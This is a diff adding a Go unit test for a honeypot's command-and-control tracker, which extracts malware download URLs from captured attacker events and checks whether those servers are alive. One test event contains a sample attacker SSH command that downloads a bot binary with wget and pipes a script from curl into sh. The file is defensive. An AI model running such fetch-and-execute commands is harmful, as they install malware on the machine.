@@ -0,0 +1,108 @@
+// Copyright 2016-2019 DutchSec (https://dutchsec.com/)
+//
+// Licensed under the Apache License, Version 2.0 (the "License");
+// you may not use this file except in compliance with the License.
+// You may obtain a copy of the License at
+//
+// http://www.apache.org/licenses/LICENSE-2.0
+//
+// Unless required by applicable law or agreed to in writing, software
+// distributed under the License is distributed on an "AS IS" BASIS,
+// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+// See the License for the specific language governing permissions and
+// limitations under the License.
+package c2
+
+import (
+	"net/http"
+	"net/http/httptest"
+	"testing"
+
+	"github.com/honeytrap/honeytrap/event"
+)
+
+type recorder struct {
+	events []event.Event
+}
+
+func (r *recorder) Send(e event.Event) {
+	r.events = append(r.events, e)
+}
+
+func TestTracker(t *testing.T) {
+	alive := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.WriteHeader(http.StatusNotFound)
+	}))
+	defer alive.Close()
+
+	dead := httptest.NewServer(nil)
+	dead.Close()
+
+	rec := &recorder{}
+
+	tr, err := New(
+		WithChannel(rec),
+		func(t *Tracker) error {
+			t.Proxy = "direct"
+			return nil
+		},
+	)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	tr.Send(event.New(
+		event.Custom("source-ip", "192.0.2.1"),
+		event.Custom("analysis.urls", []string{alive.URL + "/bot.arm"}),
+	))
+
+	tr.Send(event.New(
+		event.Custom("source-ip", "192.0.2.2"),
+		event.Custom("ssh.command", "cd /tmp; wget "+alive.URL+"/bot.arm; curl "+dead.URL+"/x.sh|sh"),
+	))
+
+	servers := tr.Servers()
+	if len(servers) != 2 {
+		t.Fatalf("Expected 2 servers, got %d", len(servers))
+	}
+
+	if len(rec.events) != 2 || rec.events[0].Get("type") != "c2-discovered" || rec.events[0].Get("source-ip") != "192.0.2.1" {
+		t.Errorf("Expected discovery events, got %v", rec.events)
+	}
+
+	for _, s := range servers {
+		if s.URL == alive.URL+"/bot.arm" && (s.Sightings != 2 || len(s.Sources) != 2 || s.IP != "127.0.0.1") {
+			t.Errorf("Expected two sightings from two sources, got %+v", s)
+		}
+	}
+
+	rec.events = nil
+
+	if err := tr.Check(); err != nil {
+		t.Fatal(err)
+	}
+
+	status := map[string]string{}
+	for _, s := range tr.Servers() {
+		status[s.URL] = s.Status
+	}
+
+	if status[alive.URL+"/bot.arm"] != StatusAlive || status[dead.URL+"/x.sh"] != StatusDead {
+		t.Errorf("Expected alive and dead servers, got %v", status)
+	}
+
+	if len(rec.events) != 2 {
+		t.Errorf("Expected status events, got %v", rec.events)
+	}
+
+	// unchanged status isn't sent again
+	rec.events = nil
+
+	if err := tr.Check(); err != nil {
+		t.Fatal(err)
+	}
+
+	if len(rec.events) != 0 {
+		t.Errorf("Expected no events, got %v", rec.events)
+	}
+}